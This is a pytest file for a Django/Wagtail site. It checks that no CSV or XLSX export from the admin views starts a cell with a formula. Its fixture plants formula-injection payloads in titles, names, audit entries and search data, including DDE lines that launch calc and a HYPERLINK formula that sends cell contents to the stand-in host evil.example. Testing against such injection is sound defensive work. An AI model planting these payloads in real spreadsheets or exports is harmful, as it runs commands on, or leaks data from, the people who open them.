"""No export holds a formula: what one person wrote must not run in the spreadsheet of another."""

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import Page

from network.colleges.spreadsheets import FORMULA
from network.people.audit import record
from network.people.models import AuditKind, User
from search.models import Synonym, Wish
from tests.factories import client_of, news, person, practice, translated
from tests.visibility.matrix.addresses import patterns

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+358 44 123", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", " =1+1", "＝1+1",
]  # fmt: skip
HIDDEN = '=HYPERLINK("http://evil.example/?x="&A1,"Avaa")'


def exporting() -> dict[str, str]:
    """Every address of the resolver whose view can export, without parameters, and the view's name."""
    found = {}
    for route, pattern in patterns():
        view = getattr(pattern.callback, "view_class", None) or getattr(pattern.callback, "__wrapped__", None)
        view = getattr(view, "view_class", view)
        if isinstance(view, type) and issubclass(view, SpreadsheetExportMixin) and "<" not in route:
            found[f"/{route}"] = view.__name__
    return found


def cells_of(answer, form) -> list:
    body = b"".join(answer.streaming_content)
    if form == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]
    sheet = load_workbook(io.BytesIO(body)).active
    assert not [cell for row in sheet for cell in row if cell.data_type == "f"]
    return [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def written_by_somebody_hostile(ekami):
    """Formulas wherever an export takes words from: titles, names, accounts, the audit log."""
    for text in [*FORMULAS, HIDDEN]:
        practice(ekami, title=text, summary=text)
    author = person("moderator", ekami)
    User.objects.filter(pk=author.pk).update(first_name=HIDDEN, last_name="=1+1")
    page = practice(ekami, title="=2+2")
    translated(page, "sv", title="=3+3")
    client_of(author).post(f"/admin/pages/{page.pk}/lock/")
    waiting = news(ekami, title="=4+4", publish=False)
    client_of(person("editor", ekami)).post(
        f"/admin/pages/{waiting.pk}/edit/",
        {
            "title": "=4+4", "slug": waiting.slug, "lead": "=4", "audience": "public", "date": "2026-11-24",
            "body-count": "0", "comments-TOTAL_FORMS": "0", "comments-INITIAL_FORMS": "0", "action-submit": "1",
        },
    )  # fmt: skip
    record(AuditKind.SIGN_IN_REFUSED, subject=HIDDEN)
    today = timezone.localdate()
    for text in [*FORMULAS, HIDDEN]:
        Wish.objects.create(query=text, language="fi", first_day=today, last_day=today)
        Synonym.objects.create(language="fi", word=text, same=text, across=text)
    assert Page.objects.get(pk=page.pk).locked
    return author


@pytest.mark.django_db
def test_no_cell_of_any_export_starts_a_formula(written_by_somebody_hostile, figures):
    client = client_of(person("administrator"))
    exports, cells, formulas, told = exporting(), 0, {}, set()

    for address, view in exports.items():
        for form in ("csv", "xlsx"):
            answer = client.get(address, {"export": form})
            assert answer.status_code == 200, address
            if not answer.streaming:
                continue  # the view can export and has nothing to: no button offers it
            for cell in cells_of(answer, form):
                cells += 1
                told.add(view)
                if isinstance(cell, str) and cell.lstrip(" ").startswith(FORMULA):
                    formulas.setdefault(f"{address} {form}", cell)

    figures("exports", exports=len(exports), cells=cells, formulas=len(formulas))
    assert not formulas
    assert {"LogEntriesView", "AgingPagesView", "LockedPagesView", "AuditReportView", "WorkflowView"} <= told
    assert cells > 200
